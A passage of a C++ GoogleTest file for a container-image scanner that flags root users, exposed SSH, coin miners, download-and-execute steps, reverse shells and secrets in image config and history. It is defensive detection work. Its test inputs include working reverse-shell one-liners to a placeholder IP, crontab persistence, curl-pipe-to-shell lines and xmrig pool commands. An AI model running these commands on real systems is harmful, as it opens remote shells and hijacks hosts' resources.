#include "detect/config_checks.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "base/json.h"
#include "tests/testing.h"

namespace customs::detect {
namespace {

using model::Confidence;
using model::Detection;
using model::Disposition;
using model::Severity;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

// An image that runs as a non-root user, so that each test sees only the
// findings it sets up.
model::ImageInfo Image() {
  model::ImageInfo image;
  image.config.user = "app";
  return image;
}

std::vector<std::string> Rules(const std::vector<Detection>& ds) {
  std::vector<std::string> out;
  for (const auto& d : ds) out.push_back(d.rule_id);
  std::sort(out.begin(), out.end());
  return out;
}

std::vector<Detection> WithRule(const std::vector<Detection>& ds, std::string_view rule) {
  std::vector<Detection> out;
  for (const auto& d : ds)
    if (d.rule_id == rule) out.push_back(d);
  return out;
}

std::string Describe(const std::vector<Detection>& ds) {
  std::string out;
  for (const auto& d : ds) out += d.rule_id + " [" + d.evidence + "]\n";
  return out;
}

// Every string a detection carries, for "the secret appears nowhere".
std::vector<std::string> Strings(const Detection& d) {
  return {d.category,
          d.rule_id,
          d.title,
          d.reference,
          d.purl,
          d.path,
          d.evidence,
          d.owner,
          d.sha256,
          d.suppressed_by,
          d.layer.created_by,
          d.layer.diff_id,
          d.layer.digest,
          d.deleted_by.created_by};
}

void ExpectNoLeak(const std::vector<Detection>& ds, const std::string& secret) {
  for (const auto& d : ds)
    for (const auto& s : Strings(d))
      EXPECT_THAT(s, Not(HasSubstr(secret))) << d.rule_id << " leaks the secret";
}

// A Monero-format address made up for the test: "4", then [0-9AB], then 93
// base58 characters (95 in all).
std::string FakeMoneroWallet() {
  const std::string base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  std::string w = "4B";
  for (size_t i = 0; w.size() < 95; ++i) w += base58[(i * 7 + 3) % base58.size()];
  return w;
}

// ----------------------------------------------------------------------------
// Runs as root.

TEST(ConfigChecksTest, RootUsersAreReported) {
  for (const char* user : {"", "root", "0", "0:0", "root:root", "root:1000", " 0 "}) {
    model::ImageInfo image = Image();
    image.config.user = user;
    auto ds = CheckImageConfig(image);
    ASSERT_EQ(ds.size(), 1u) << "user '" << user << "'\n" << Describe(ds);
    EXPECT_EQ(ds[0].rule_id, "config-runs-as-root");
    EXPECT_EQ(ds[0].category, model::kCategoryConfig);
    EXPECT_EQ(ds[0].severity, Severity::kLow);
    EXPECT_EQ(ds[0].disposition, Disposition::kInfo);
    EXPECT_TRUE(ds[0].path.empty());
    EXPECT_THAT(ds[0].evidence, HasSubstr("User"));
  }
  EXPECT_EQ(CheckImageConfig(model::ImageInfo{})[0].evidence,
            "User is not set: the container runs as root (uid 0)");
}

TEST(ConfigChecksTest, NonRootUsersAreNot) {
  for (const char* user :
       {"app", "1000", "1000:1000", "nobody", "65534:65534", "node", "0app", "10001:0"}) {
    model::ImageInfo image = Image();
    image.config.user = user;
    EXPECT_THAT(CheckImageConfig(image), IsEmpty()) << user;
  }
}

// ----------------------------------------------------------------------------
// SSH.

TEST(ConfigChecksTest, SshExposedOrRun) {
  model::ImageInfo image = Image();
  image.config.exposed_ports = {"80/tcp", "22/tcp"};
  auto ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].rule_id, "config-ssh-exposed");
  EXPECT_EQ(ds[0].evidence, "ExposedPorts: 22/tcp");
  EXPECT_EQ(ds[0].disposition, Disposition::kInfo);
  EXPECT_EQ(ds[0].severity, Severity::kMedium);

  image = Image();
  image.config.cmd = {"/usr/sbin/sshd", "-D", "-e"};
  ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].rule_id, "config-ssh-exposed");
  EXPECT_THAT(ds[0].evidence, HasSubstr("Cmd: runs sshd"));

  image = Image();
  image.config.entrypoint = {"/bin/sh", "-c", "service ssh start && tail -f /dev/null"};
  EXPECT_EQ(Rules(CheckImageConfig(image)), std::vector<std::string>{"config-ssh-exposed"});

  // Other ports, an SSH client, a port that only ends in 22.
  image = Image();
  image.config.exposed_ports = {"2222/tcp", "8022/tcp", "443/tcp", "122/tcp"};
  image.config.cmd = {"ssh", "-V"};
  EXPECT_THAT(CheckImageConfig(image), IsEmpty());
}

// ----------------------------------------------------------------------------
// Coin miners.

TEST(ConfigChecksTest, MinerInEntrypoint) {
  std::string wallet = FakeMoneroWallet();
  ASSERT_EQ(wallet.size(), 95u);
  model::ImageInfo image = Image();
  image.config.entrypoint = {
      "/usr/local/bin/xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", wallet,
      "--donate-level=1"};
  auto ds = CheckImageConfig(image);
  EXPECT_EQ(Rules(ds),
            (std::vector<std::string>{"config-miner-donate-level", "config-miner-executable",
                                      "config-miner-pool-domain", "config-miner-stratum-url",
                                      "config-miner-wallet"}))
      << Describe(ds);
  for (const auto& d : ds) {
    EXPECT_EQ(d.category, model::kCategoryCoinMiner) << d.rule_id;
    EXPECT_EQ(d.disposition, Disposition::kSuspicious) << d.rule_id;
    EXPECT_EQ(d.severity, Severity::kHigh) << d.rule_id;
    EXPECT_THAT(d.evidence, ::testing::StartsWith("Entrypoint: ")) << d.rule_id;
    EXPECT_TRUE(d.path.empty());
  }
  EXPECT_EQ(WithRule(ds, "config-miner-stratum-url")[0].evidence,
            "Entrypoint: stratum+tcp://pool.supportxmr.com:3333");
  EXPECT_EQ(WithRule(ds, "config-miner-pool-domain")[0].evidence,
            "Entrypoint: pool.supportxmr.com:3333");
  EXPECT_EQ(WithRule(ds, "config-miner-wallet")[0].evidence, "Entrypoint: " + wallet);
  EXPECT_THAT(WithRule(ds, "config-miner-executable")[0].evidence,
              HasSubstr("Entrypoint: xmrig in"));
}

TEST(ConfigChecksTest, MinerInEnvAndHistory) {
  model::ImageInfo image = Image();
  image.config.env = {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                      "POOL=stratum+ssl://xmr.pool.example:443"};
  image.history = {
      {.created_by = "/bin/sh -c #(nop) ADD file:4b03b5f551e3fbdf47ec609712007327828f7530cc3455c4"
                     "3bbcdcaf449a75a9 in / "},
      {.created_by = "RUN /bin/sh -c wget -q https://github.com/xmrig/xmrig/releases/download/"
                     "v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig-6.21.0-linux-"
                     "static-x64.tar.gz # buildkit"},
      {.created_by = "RUN /bin/sh -c ./cpuminer-opt -a rx/0 -o eu1.nanopool.org:14433 # buildkit"},
  };
  auto ds = CheckImageConfig(image);
  EXPECT_EQ(Rules(ds),
            (std::vector<std::string>{"config-miner-executable", "config-miner-executable",
                                      "config-miner-pool-domain", "config-miner-stratum-url"}))
      << Describe(ds);
  EXPECT_EQ(WithRule(ds, "config-miner-stratum-url")[0].evidence,
            "Env[1]: stratum+ssl://xmr.pool.example:443");
  auto exe = WithRule(ds, "config-miner-executable");
  EXPECT_THAT(exe[0].evidence, ::testing::StartsWith("History[1].created_by: xmrig in"));
  EXPECT_THAT(exe[1].evidence, ::testing::StartsWith("History[2].created_by: cpuminer in"));
  EXPECT_EQ(WithRule(ds, "config-miner-pool-domain")[0].evidence,
            "History[2].created_by: eu1.nanopool.org:14433");
}

TEST(ConfigChecksTest, MinerLookalikesAreNot) {
  model::ImageInfo image = Image();
  image.config.env = {"KEYSERVER=ha.pool.sks-keyservers.net", "POOL_SIZE=10",
                      "DB_URL=postgres://db:5432/app", "XMRIG_DOCS=https://example.org/docs"};
  image.config.cmd = {"python3", "-m", "miner", "--pool-size", "4"};
  image.history = {
      {.created_by = "/bin/sh -c apt-get update && apt-get install -y minetest && rm -rf "
                     "/var/lib/apt/lists/*"},
      {.created_by = "/bin/sh -c echo t-rex claymore > /tmp/names.txt"},
      {.created_by = "/bin/sh -c #(nop)  ENV SUBSTRATUM_HOME=/opt/substratum"},
      // 94 and 96 base58 characters: not Monero addresses.
      {.created_by = "/bin/sh -c #(nop)  ENV ID=" + FakeMoneroWallet().substr(0, 94)},
      {.created_by = "/bin/sh -c #(nop)  ENV ID2=" + FakeMoneroWallet() + "z"},
  };
  auto ds = CheckImageConfig(image);
  EXPECT_THAT(ds, IsEmpty()) << Describe(ds);
}

// ----------------------------------------------------------------------------
// Download and execute.

TEST(ConfigChecksTest, DownloadExecuteAtRunTime) {
  model::ImageInfo image = Image();
  image.config.cmd = {"sh", "-c", "curl -fsSL https://example.org/run.sh | sh"};
  auto ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].rule_id, "config-download-execute");
  EXPECT_EQ(ds[0].category, model::kCategoryConfig);
  EXPECT_EQ(ds[0].severity, Severity::kHigh);
  EXPECT_EQ(ds[0].disposition, Disposition::kSuspicious);
  EXPECT_EQ(ds[0].evidence, "Cmd: sh -c curl -fsSL https://example.org/run.sh | sh");

  image = Image();
  image.config.entrypoint = {"/bin/bash", "-c",
                             "wget -qO /tmp/a http://203.0.113.9/a && chmod 755 /tmp/a && "
                             "exec /tmp/a"};
  ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].rule_id, "config-download-execute");
  EXPECT_THAT(ds[0].evidence, ::testing::StartsWith("Entrypoint: "));
}

TEST(ConfigChecksTest, DownloadExecuteAtBuildTime) {
  struct Case {
    std::string line;
    Severity severity;
    Disposition disposition;
  };
  const Case cases[] = {
      // The docker123321 pattern: a script dressed as an image, over http.
      {"/bin/sh -c curl -s http://198.51.100.7:8220/logo3.jpg | bash -s", Severity::kMedium,
       Disposition::kSuspicious},
      {"/bin/sh -c wget -O /tmp/x https://203.0.113.5/x && chmod +x /tmp/x && /tmp/x",
       Severity::kMedium, Disposition::kSuspicious},
      {"RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_18.x | bash - # buildkit",
       Severity::kLow, Disposition::kInfo},
      {"/bin/sh -c sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/"
       "master/tools/install.sh)\"",
       Severity::kLow, Disposition::kInfo},
      {"/bin/sh -c bash <(wget -qO- https://example.org/install.sh)", Severity::kLow,
       Disposition::kInfo},
      {"/bin/sh -c wget https://get.docker.com -O get-docker.sh && sh get-docker.sh",
       Severity::kLow, Disposition::kInfo},
      {"/bin/sh -c curl -sSL https://example.org/i.sh | sudo -E bash -", Severity::kLow,
       Disposition::kInfo},
  };
  for (const Case& c : cases) {
    model::ImageInfo image = Image();
    image.history = {{.created_by = c.line}};
    auto ds = CheckImageConfig(image);
    ASSERT_EQ(ds.size(), 1u) << c.line << "\n" << Describe(ds);
    EXPECT_EQ(ds[0].rule_id, "config-download-execute") << c.line;
    EXPECT_EQ(ds[0].severity, c.severity) << c.line;
    EXPECT_EQ(ds[0].disposition, c.disposition) << c.line;
    EXPECT_THAT(ds[0].evidence, ::testing::StartsWith("History[0].created_by: ")) << c.line;
  }
}

// History lines of public official-image Dockerfiles (debian, node, python,
// golang, rust, nginx, docker) and common build steps: none downloads and
// runs unverified code, none holds a secret.
TEST(ConfigChecksTest, OfficialImageHistoryIsQuiet) {
  model::ImageInfo image = Image();
  image.config.env = {
      "PATH=/usr/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      "LANG=C.UTF-8",
      "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305",
      "PYTHON_VERSION=3.12.4",
      "PYTHON_SHA256=f6d419a6d8743ab26700801b4908d26d97e8b986e14f95de31b32de2b0e79554",
      "PYTHON_GET_PIP_SHA256=dfe9fd5c28dc98b5ac17979a953ea550cec37ae1b47a5116007395bfacff2ab9",
      "NODE_VERSION=20.15.0",
      "YARN_VERSION=1.22.19",
      "GOLANG_VERSION=1.22.5",
      "GOPATH=/go",
      "RUSTUP_HOME=/usr/local/rustup",
      "NGINX_VERSION=1.27.0",
      "NJS_VERSION=0.8.4",
      "PKG_RELEASE=2~bookworm",
      "GOSU_VERSION=1.17",
      "JAVA_HOME=/opt/java/openjdk",
      "MYSQL_ALLOW_EMPTY_PASSWORD=yes",
      "MYSQL_RANDOM_ROOT_PASSWORD=yes",
      "POSTGRES_PASSWORD_FILE=/run/secrets/postgres-passwd",
      "PGDATA=/var/lib/postgresql/data",
      "DB_PASSWORD=",
      "DB_PASSWORD=${DB_PASSWORD}",
      "API_TOKEN=changeme",
      "REDIS_PASSWORD=<your-password>",
      // AWS's documentation example keys.
      "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
      "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      "npm_config_cache=/tmp/.npm",
  };
  const char* lines[] = {
      "/bin/sh -c #(nop) ADD file:5d6b639e8b6bcc011ba8c0ebd25b7e5c5b0d2b2f2c1c1b0d0a0f0e0d0c0b0a09 "
      "in / ",
      "/bin/sh -c #(nop)  CMD [\"bash\"]",
      "/bin/sh -c #(nop)  ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D",
      "ENV PYTHON_SHA256=f6d419a6d8743ab26700801b4908d26d97e8b986e14f95de31b32de2b0e79554",
      "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends "
      "ca-certificates curl netbase wget && rm -rf /var/lib/apt/lists/*",
      "/bin/sh -c set -ex; if ! command -v gpg > /dev/null; then apt-get update; apt-get "
      "install -y --no-install-recommends gnupg dirmngr; rm -rf /var/lib/apt/lists/*; fi",
      // node
      "/bin/sh -c ARCH= && dpkgArch=\"$(dpkg --print-architecture)\" && case \"${dpkgArch##*-}\" "
      "in amd64) ARCH='x64';; *) echo \"unsupported architecture\"; exit 1 ;; esac && curl "
      "-fsSLO --compressed \"https://nodejs.org/dist/v$NODE_VERSION/node-v$NODE_VERSION-linux-"
      "$ARCH.tar.xz\" && curl -fsSLO --compressed \"https://nodejs.org/dist/v$NODE_VERSION/"
      "SHASUMS256.txt.asc\" && gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc "
      "&& grep \" node-v$NODE_VERSION-linux-$ARCH.tar.xz\\$\" SHASUMS256.txt | sha256sum -c - && "
      "tar -xJf \"node-v$NODE_VERSION-linux-$ARCH.tar.xz\" -C /usr/local --strip-components=1 "
      "--no-same-owner && rm \"node-v$NODE_VERSION-linux-$ARCH.tar.xz\" SHASUMS256.txt.asc "
      "SHASUMS256.txt && ln -s /usr/local/bin/node /usr/local/bin/nodejs && node --version && "
      "npm --version",
      // python: get-pip.py is checked against PYTHON_GET_PIP_SHA256 before it runs
      "/bin/sh -c set -eux; wget -O get-pip.py \"$PYTHON_GET_PIP_URL\"; echo "
      "\"$PYTHON_GET_PIP_SHA256 *get-pip.py\" | sha256sum -c -; export PYTHONDONTWRITEBYTECODE=1; "
      "python get-pip.py --disable-pip-version-check --no-cache-dir --no-compile "
      "\"pip==$PYTHON_PIP_VERSION\"; rm -f get-pip.py; pip --version",
      "/bin/sh -c set -eux; wget -O python.tar.xz "
      "\"https://www.python.org/ftp/python/${PYTHON_VERSION%%[a-z]*}/"
      "Python-$PYTHON_VERSION.tar.xz\"; "
      "echo \"$PYTHON_SHA256 *python.tar.xz\" | sha256sum -c -; wget -O python.tar.xz.asc "
      "\"https://www.python.org/ftp/python/${PYTHON_VERSION%%[a-z]*}/"
      "Python-$PYTHON_VERSION.tar.xz.asc\"; "
      "GNUPGHOME=\"$(mktemp -d)\"; export GNUPGHOME; gpg --batch --keyserver "
      "hkps://keys.openpgp.org "
      "--recv-keys \"$GPG_KEY\"; gpg --batch --verify python.tar.xz.asc python.tar.xz; "
      "mkdir -p /usr/src/python; tar --extract --directory /usr/src/python --strip-components=1 "
      "--file python.tar.xz",
      // golang
      "/bin/sh -c set -eux; url='https://dl.google.com/go/go1.22.5.linux-amd64.tar.gz'; "
      "sha256='904b924d435eaea086515bc63235b192ea441bd8c9b198c507e85009e6e4c7f0'; wget -O "
      "go.tgz.asc "
      "\"$url.asc\"; wget -O go.tgz \"$url\" --progress=dot:giga; echo \"$sha256 *go.tgz\" | "
      "sha256sum -c -; tar -C /usr/local -xzf go.tgz; rm go.tgz; go version",
      // rust: rustup-init is checked before it runs
      "/bin/sh -c set -eux; url=\"https://static.rust-lang.org/rustup/archive/1.27.1/"
      "${rustArch}/rustup-init\"; wget \"$url\"; echo \"${rustupSha256} *rustup-init\" | "
      "sha256sum -c -; chmod +x rustup-init; ./rustup-init -y --no-modify-path --profile "
      "minimal --default-toolchain $RUST_VERSION --default-host ${rustArch}; rm rustup-init",
      // docker, keys and tarballs through pipes that do not run them
      "/bin/sh -c install -m 0755 -d /etc/apt/keyrings && curl -fsSL "
      "https://download.docker.com/linux/debian/gpg | gpg --dearmor -o "
      "/etc/apt/keyrings/docker.gpg",
      "/bin/sh -c wget -O- https://apt.example.org/key.asc | gpg --dearmor > "
      "/usr/share/keyrings/example.gpg",
      "/bin/sh -c curl -fsSL https://example.org/tool-1.2.3.tar.gz | tar -xz -C /opt",
      "/bin/sh -c curl -s https://api.github.com/repos/o/r/releases/latest | python3 -c \"import "
      "sys, json; print(json.load(sys.stdin)['tag_name'])\"",
      "/bin/sh -c curl -s https://example.org/v.json | python3 -m json.tool",
      "/bin/sh -c VERSION=$(curl -s https://example.org/latest) && curl -fsSLo "
      "/usr/local/bin/tool https://example.org/$VERSION/tool && chmod +x /usr/local/bin/tool",
      "/bin/sh -c wget -O /usr/local/bin/dind "
      "\"https://raw.githubusercontent.com/docker/docker/${DIND_COMMIT}/hack/dind\"; chmod +x "
      "/usr/local/bin/dind",
      "/bin/sh -c #(nop)  EXPOSE 80",
      "/bin/sh -c #(nop)  STOPSIGNAL SIGQUIT",
      "/bin/sh -c #(nop)  CMD [\"nginx\" \"-g\" \"daemon off;\"]",
      "HEALTHCHECK &{[\"CMD-SHELL\" \"curl -f http://localhost/ || exit 1\"] \"30s\" \"3s\" \"0s\" "
      "\"0s\" '\\x03'}",
      "/bin/sh -c until timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'; do sleep 1; done",
  };
  for (const char* l : lines) image.history.push_back({.created_by = l});
  auto ds = CheckImageConfig(image);
  EXPECT_THAT(ds, IsEmpty()) << Describe(ds);
}

// Real configs from ../shared/data: nginx 1.17 and a node 10 app
// (docker-goof), as docker save wrote them. Their User is empty, so the only
// finding is that they run as root.
std::string ConfigFromArchive(const std::string& archive) {
  std::string manifest;
  if (testing::Run("tar -xOf '" + archive + "' manifest.json", &manifest) != 0) return "";
  auto m = ParseJson(manifest, "manifest.json");
  if (!m.ok() || !m->is_array() || m->empty()) return "";
  std::string config_name = JsonString((*m)[0], "Config");
  std::string config;
  if (testing::Run("tar -xOf '" + archive + "' '" + config_name + "'", &config) != 0) return "";
  return config;
}

model::ImageInfo ImageFromConfig(const std::string& text) {
  model::ImageInfo image;
  auto j = ParseJson(text, "config");
  EXPECT_TRUE(j.ok()) << j.status().ToString();
  if (!j.ok()) return image;
  if (const Json* c = JsonObject(*j, "config")) {
    image.config.user = JsonString(*c, "User");
    image.config.env = JsonStrings(*c, "Env");
    image.config.cmd = JsonStrings(*c, "Cmd");
    image.config.entrypoint = JsonStrings(*c, "Entrypoint");
    if (const Json* ports = JsonObject(*c, "ExposedPorts"); ports && ports->is_object())
      for (const auto& [k, v] : ports->items()) image.config.exposed_ports.push_back(k);
  }
  if (const Json* h = JsonArray(*j, "history"))
    for (const Json& e : *h)
      image.history.push_back(
          {.created_by = JsonString(e, "created_by"), .empty_layer = JsonBool(e, "empty_layer")});
  return image;
}

TEST(ConfigChecksTest, RealOfficialImageConfigs) {
  struct Fixture {
    const char* rel;
    size_t history;
  };
  // History lengths counted with python3 over the configs.
  for (const Fixture& f :
       {Fixture{"images/docker-archive/nginx-trimmed-docker-save.tar", 11},
        Fixture{"images/docker-archive/dockergoof-trimmed-4layers-docker-save.tar", 14}}) {
    CUSTOMS_REQUIRE_SHARED(path, f.rel);
    model::ImageInfo image = ImageFromConfig(ConfigFromArchive(path));
    ASSERT_EQ(image.history.size(), f.history) << f.rel;
    auto ds = CheckImageConfig(image);
    EXPECT_EQ(Rules(ds), std::vector<std::string>{"config-runs-as-root"}) << f.rel << "\n"
                                                                          << Describe(ds);
  }
}

// ----------------------------------------------------------------------------
// Reverse shells.

TEST(ConfigChecksTest, ReverseShells) {
  const std::vector<std::vector<std::string>> commands = {
      {"/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"},
      {"python3", "-c",
       "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
       "s.connect((\"192.0.2.10\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
       "os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"},
      {"perl", "-e",
       "use Socket;$i=\"192.0.2.10\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
       "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
       "exec(\"/bin/sh -i\");};"},
      {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 4444 >/tmp/f"},
      {"nc", "-e", "/bin/sh", "192.0.2.10", "4444"},
      {"ncat", "192.0.2.10", "4444", "--sh-exec", "/bin/bash"},
      {"socat", "tcp-connect:192.0.2.10:4444", "exec:/bin/bash,pty,stderr,setsid"},
  };
  for (const auto& cmd : commands) {
    model::ImageInfo image = Image();
    image.config.cmd = cmd;
    auto ds = CheckImageConfig(image);
    ASSERT_EQ(ds.size(), 1u) << cmd.back() << "\n" << Describe(ds);
    EXPECT_EQ(ds[0].rule_id, "config-reverse-shell");
    EXPECT_EQ(ds[0].category, model::kCategoryBackdoor);
    EXPECT_EQ(ds[0].disposition, Disposition::kMalicious);
    EXPECT_EQ(ds[0].severity, Severity::kCritical);
    EXPECT_THAT(ds[0].evidence, ::testing::StartsWith("Cmd: "));
  }

  model::ImageInfo image = Image();
  image.history = {
      {.created_by = "/bin/sh -c #(nop)  CMD [\"bash\"]"},
      {.created_by = "RUN /bin/sh -c echo '* * * * * bash -i >& "
                     "/dev/tcp/192.0.2.10/4444 0>&1' > /etc/crontabs/root # buildkit"}};
  auto ds = CheckImageConfig(image);
  ASSERT_EQ(ds.size(), 1u) << Describe(ds);
  EXPECT_EQ(ds[0].rule_id, "config-reverse-shell");
  EXPECT_THAT(ds[0].evidence, ::testing::StartsWith("History[1].created_by: "));
}

TEST(ConfigChecksTest, NetworkCommandsThatAreNotShells) {
  const std::vector<std::vector<std::string>> commands = {
      {"nc", "-z", "db", "5432"},
      {"nc", "-l", "-p", "8080", "-e"},  // -e without a shell
      {"socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:backend:80"},
      {"bash", "-c", "exec 3<>/dev/tcp/localhost/8080 && echo ok"},
      {"python3", "-c", "import socket; print(socket.gethostname())"},
      {"sh", "-c", "mkfifo /tmp/log && tail -f /tmp/log"},
  };
  for (const auto& cmd : commands) {
    model::ImageInfo image = Image();
    image.config.cmd = cmd;
    auto ds = CheckImageConfig(image);
    EXPECT_THAT(ds, IsEmpty()) << cmd.back() << "\n" << Describe(ds);
  }
}

// ----------------------------------------------------------------------------
// Secrets.

constexpr char kAwsSecret[] = "q8Zt3Lr7Vb1Nw5Ks9Xd2Hf6Jm4Pc0Ga7Ye3Ru8Tq";    // 40, made up
constexpr char kGithubToken[] = "ghp_R4nd0mT0k3nF0rT3st1ngOnlyAbCdEfGh123";  // 36 after ghp_
constexpr char kNpmToken[] = "npm_Zy9Xw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0FeDcBa";     // 36 after npm_

TEST(ConfigChecksTest, SecretsInEnvAreRedacted) {
  ASSERT_EQ(std::string(kAwsSecret).size(), 40u);
  ASSERT_EQ(std::string(kGithubToken).size(), 40u);
  ASSERT_EQ(std::string(kNpmToken).size(), 40u);
  const std::string key_body =
      "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
  model::ImageInfo image = Image();
  image.config.env = {
      "PATH=/usr/local/bin:/usr/bin:/bin",
      std::string("AWS_SECRET_ACCESS_KEY=") + kAwsSecret,
      std::string("GITHUB_TOKEN=") + kGithubToken,
      "AWS_ACCESS_KEY_ID=AKIAZ7Q3RT5WX2LM4N6P",
      "DEPLOY_KEY=-----BEGIN OPENSSH PRIVATE KEY-----\n" + key_body +
          "\n-----END OPENSSH PRIVATE KEY-----\n",
      "DB_PASSWORD=Tr0ub4dor&3 x",
      "JAVA_OPTS=-Xmx1g -Ddb.password=Sup3rS3cretV4lue",
  };
  auto ds = CheckImageConfig(image);
  EXPECT_EQ(Rules(ds),
            (std::vector<std::string>{"config-secret-assignment", "config-secret-assignment",
                                      "config-secret-assignment", "config-secret-aws-access-key-id",
                                      "config-secret-github-token", "config-secret-private-key"}))
      << Describe(ds);
  for (const auto& d : ds) {
    EXPECT_EQ(d.category, model::kCategorySecret);
    EXPECT_EQ(d.severity, Severity::kHigh);
    EXPECT_EQ(d.disposition, Disposition::kSuspicious);
    EXPECT_TRUE(d.path.empty());
  }
  std::vector<std::string> evidence;
  for (const auto& d : ds) evidence.push_back(d.evidence);
  EXPECT_THAT(evidence, ::testing::UnorderedElementsAre(
                            "Env[1]: AWS_SECRET_ACCESS_KEY=q8Zt\u2026 (40 chars, redacted)",
                            "Env[2]: GitHub token ghp_\u2026 (40 chars, redacted)",
                            "Env[3]: AWS access key ID AKIA\u2026 (20 chars, redacted)",
                            "Env[4]: -----BEGIN OPENSSH PRIVATE KEY----- (key redacted)",
                            "Env[5]: DB_PASSWORD=Tr\u2026 (13 chars, redacted)",
                            "Env[6]: password=Sup3\u2026 (16 chars, redacted)"))
      << Describe(ds);
  for (const std::string& secret :
       {std::string(kAwsSecret), std::string(kGithubToken), std::string("AKIAZ7Q3RT5WX2LM4N6P"),
        key_body, std::string("Tr0ub4dor&3 x"), std::string("Sup3rS3cretV4lue"),
        std::string(kAwsSecret).substr(4), std::string(kGithubToken).substr(4)})
    ExpectNoLeak(ds, secret);
}

TEST(ConfigChecksTest, SecretsInHistoryKeepTheLayerButNotItsLine) {
  model::ImageInfo image = Image();
  image.layers = {{.index = 0, .diff_id = "sha256:aaa", .created_by = "ADD rootfs"},
                  {.index = 1,
                   .diff_id = "sha256:bbb",
                   .created_by = std::string("RUN |1 NPM_TOKEN=") + kNpmToken + " npm ci"}};
  image.history = {
      {.created_by = "/bin/sh -c #(nop) ADD file:abc in / "},
      {.created_by = "/bin/sh -c #(nop)  CMD [\"node\"]", .empty_layer = true},
      {.created_by = std::string("RUN |1 NPM_TOKEN=") + kNpmToken +
                     " /bin/sh -c npm ci --omit=dev # buildkit"},
      {.created_by = "/bin/sh -c echo \"//registry.npmjs.org/:_authToken=5f2c9e1a-7b3d-4e8f-"
                     "9a0b-c1d2e3f4a5b6\" > /root/.npmrc",
       .empty_layer = true},
      {.created_by = "/bin/sh -c curl -H 'Authorization: token " + std::string(kGithubToken) +
                     "' https://example.org/setup.sh | sh",
       .empty_layer = true},
  };
  auto ds = CheckImageConfig(image);
  EXPECT_EQ(Rules(ds),
            (std::vector<std::string>{"config-download-execute", "config-secret-assignment",
                                      "config-secret-github-token", "config-secret-npm-token"}))
      << Describe(ds);
  auto npm = WithRule(ds, "config-secret-npm-token");
  ASSERT_EQ(npm.size(), 1u);
  EXPECT_EQ(npm[0].evidence, "History[2].created_by: npm token npm_\u2026 (40 chars, redacted)");
  EXPECT_EQ(npm[0].layer.index, 1);
  EXPECT_EQ(npm[0].layer.diff_id, "sha256:bbb");
  EXPECT_EQ(npm[0].layer.created_by, "");
  EXPECT_EQ(WithRule(ds, "config-secret-assignment")[0].evidence,
            "History[3].created_by: _authToken=5f2c\u2026 (36 chars, redacted)");
  // The download's evidence quotes the command with the token redacted.
  EXPECT_THAT(WithRule(ds, "config-download-execute")[0].evidence,
              HasSubstr("ghp_\u2026 (40 chars, redacted)"));
  ExpectNoLeak(ds, kNpmToken);
  ExpectNoLeak(ds, std::string(kNpmToken).substr(4));
  ExpectNoLeak(ds, kGithubToken);
  ExpectNoLeak(ds, "5f2c9e1a-7b3d-4e8f-9a0b-c1d2e3f4a5b6");
}

TEST(ConfigChecksTest, OtherTokenShapes) {
  struct Case {
    std::string value;
    const char* rule;
  };
  const Case cases[] = {
      {"glpat-Ab3De6Gh9Jk2Mn5Pq8St", "config-secret-gitlab-token"},
      {"xoxb-2648105293-5712986403-Kq7Lm3Np9Rt2Vw6Xz8Bc4Df1", "config-secret-slack-token"},
      {"sk_live_4eC39HqLyjWDarjtT1zdp7dcXy", "config-secret-stripe-key"},
      {"https://hooks.slack.com/services/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",
       "config-secret-slack-token"},
  };
  for (const Case& c : cases) {
    model::ImageInfo image = Image();
    image.history = {{.created_by = "/bin/sh -c #(nop)  ENV HOOK=" + c.value}};
    auto ds = CheckImageConfig(image);
    ASSERT_EQ(ds.size(), 1u) << c.value << "\n" << Describe(ds);
    EXPECT_EQ(ds[0].rule_id, c.rule);
    ExpectNoLeak(ds, c.value);
    ExpectNoLeak(ds, c.value.substr(c.value.size() - 12));
  }
}

// The same ENV in the config and in history is one finding, on the config.
TEST(ConfigChecksTest, SharedFindingsAreReportedOnce) {
  model::ImageInfo image = Image();
  image.config.env = {std::string("SERVICE_TOKEN=") + kAwsSecret};
